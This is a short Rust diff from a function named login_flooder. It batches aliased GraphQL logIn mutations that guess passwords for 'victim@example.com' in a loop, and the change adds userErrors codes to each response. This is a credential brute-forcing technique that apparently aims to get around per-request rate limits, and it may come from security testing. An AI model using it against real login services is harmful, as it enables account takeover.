@@ -463,7 +463,7 @@ async fn login_flooder(url: String, stop: Arc<AtomicBool>, counters: Arc<Counter
     while !stop.load(Ordering::SeqCst) {
         n += 1;
         let aliases: String = (0..4)
-            .map(|i| format!("a{i}: logIn(email: \"victim@example.com\", password: \"guess {n} {i}\") {{ token }} "))
+            .map(|i| format!("a{i}: logIn(email: \"victim@example.com\", password: \"guess {n} {i}\") {{ token userErrors {{ code }} }} "))
             .collect();
         let Ok(response) = graphql(
             &client,
